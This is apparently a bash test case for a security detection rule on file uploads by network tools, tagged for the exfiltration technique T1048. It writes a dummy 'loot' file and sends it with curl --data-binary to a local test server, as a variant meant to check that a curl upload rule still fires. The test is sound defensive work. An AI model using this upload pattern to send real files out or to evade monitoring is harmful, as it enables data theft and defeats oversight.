# technique: T1048 the same with --data @file
# rule: file_uploaded_by_network_tool
# exe: /usr/bin/curl
# evasion-of: 70_curl_upload
. "$(dirname "$0")/common.bash"
echo data >"$VG_TMP/loot"
serve_http ok
curl -s --data-binary "@$VG_TMP/loot" "http://127.0.0.1:$VG_PORT/" >/dev/null || true
